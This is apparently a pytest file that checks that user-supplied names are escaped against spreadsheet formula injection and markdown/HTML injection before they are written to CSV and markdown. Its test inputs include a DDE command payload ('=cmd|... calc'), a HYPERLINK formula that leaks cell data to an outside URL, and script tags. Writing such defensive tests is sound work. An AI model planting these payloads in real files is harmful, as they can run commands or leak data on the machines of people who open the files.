"""What a user called something does nothing in a spreadsheet and breaks no table."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from experiments.cells import guarded, read_csv, unguarded
from experiments.files import write_csv
from experiments.hypotheses import load_hypotheses, put_to_test
from results import markdown
from results.verdicts import write_verdicts

MARKS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
ATTACKS = (
    *("=1+1", "+1+1", "-2+3", "@SUM(1)", "＝1+1", "＋1", "－A1", "＠SUM(1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx"),
    *(" =1+1", '"=1+1"', "'=1+1", " ' \"=1", "\u00a0=1", "\ufeff=1", "=cmd|' /C calc'!A0", "-1e5+1", "--1", "=-1"),
    *("a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n@SUM(1)", 'a; "=1"', '=HYPERLINK("http://x/?"&A2,"click")'),
)
PLAIN = (
    *("", "-", "+", "=", "-5", "-0.25", "+3", "-1e-5", "-inf", "firm", "Åsele", "a = b", "x-y", "3 - 4", "a, b"),
    *("it's", "'quoted'", "a; b", "a;-5", "https://x.se/?a=b", "0.5 to 1", "−5 to 3"),
)


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _runs(one: str) -> bool:
    bare = one.lstrip(" \"'\u00a0\ufeff") if not one.startswith("'") else one
    return bare.startswith((*MARKS, "\t", "\n", "\r")) and len(bare) > 1 and not _is_number(one)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_run_is_written_harmless(text: str) -> None:
    """Whatever a spreadsheet takes for the end of a cell."""
    written = guarded(text)
    assert unguarded(written) == _lines(text)
    assert not _runs(written)
    for parts in (written.split(";"), written.split("\t"), written.splitlines()):
        assert not any(map(_runs, parts)), parts


@pytest.mark.parametrize("text", PLAIN)
def test_what_runs_nothing_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text == unguarded(text)


@given(st.text(st.sampled_from(["'", '"', " ", ";", "\t", "\r", "\n", "=", "-", "＋", "@", "1", "a", ".", "e"])))
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == _lines(text)


def test_a_table_comes_back(tmp_path: Path) -> None:
    count = len(ATTACKS)
    frame = pd.DataFrame(
        {
            "name": ATTACKS,
            "=kind": pd.Categorical(["=a" if number % 2 else "b" for number in range(count)]),
            "number": np.linspace(-3.0, 3.0, count),
            "whole": np.arange(-5, count - 5),
            "mixed": pd.Series([-1.5 if number % 2 else "=x" for number in range(count)], dtype=object),
            "true": [True] * count,
        }
    )
    before = frame.copy(deep=True)
    write_csv(tmp_path / "a.csv", frame)
    pd.testing.assert_frame_equal(frame, before)
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as lines:
        assert not any(_runs(one) for row in csv.reader(lines) for one in row)
    raw = pd.read_csv(tmp_path / "a.csv")
    for name in ("number", "whole", "true"):
        assert raw[name].tolist() == pytest.approx(frame[name].tolist())
    back = read_csv(tmp_path / "a.csv")
    assert list(back) == list(frame)
    for name in ("name", "=kind", "mixed"):
        assert back[name].tolist() == [_lines(str(one)) for one in frame[name]]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", ["a | b", "a\\", "a \\| b", "a\nb", "a\r\n| b", "|", "<script>x</script>", "<!-- x"])
def test_a_cell_of_markdown_cannot_end_it(text: str) -> None:
    line = markdown.row([text, "next"])
    assert "\n" not in line
    assert "<s" not in line
    assert "<!" not in line
    bare = line.replace("\\\\", "").replace("\\|", "")
    assert bare.count("|") == 3
    assert markdown.head(["a", text])[1] == "|---|---|"


def test_numbers_and_emphasis_are_left_alone() -> None:
    assert markdown.row(["34\u2009700", "**yes**", "p < 0.05", ""]) == "| 34\u2009700 | **yes** | p < 0.05 |  |"


ASKED = """
region = "tiny"
months = 2
[pairs]
first = 10
step = 5
most = 10
[parameters]
run.spin_up = 1
facilitator.start = 1
[cells]
a = { facilitator.fte = 0.0 }
b = { facilitator.fte = 4.0 }
[[hypothesis]]
name = '=HYPERLINK("http://x/?"&A2,"click")'
statement = "=cmd|' /C calc'!A0"
source = "@SUM(1)"
[[hypothesis.claim]]
text = "+1+1 | <b>bold</b>"
indicator = "exchanges"
direction = "above"
smallest = 1.0
terms = [{ cell = "b", weight = 1 }, { cell = "a", weight = -1 }]
"""


@pytest.mark.slow
def test_titles_of_hypotheses(tmp_path: Path) -> None:
    (tmp_path / "asked.toml").write_text(ASKED, encoding="utf-8")
    result = put_to_test(load_hypotheses(tmp_path / "asked.toml"), tmp_path / "runs", workers=1)
    write_verdicts(result, tmp_path)
    for name in ("verdicts.csv", "looks.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as lines:
            rows = list(csv.reader(lines))
        assert not any(_runs(one) for row in rows for one in row)
    back = read_csv(tmp_path / "verdicts.csv")
    assert back["claim"].tolist() == ["+1+1 | <b>bold</b>"]
    page = (tmp_path / "verdicts.md").read_text(encoding="utf-8")
    table = [line for line in page.splitlines() if line.startswith("|")]
    assert {line.replace("\\|", "").count("|") for line in table} == {8}
    assert "<b>" not in page
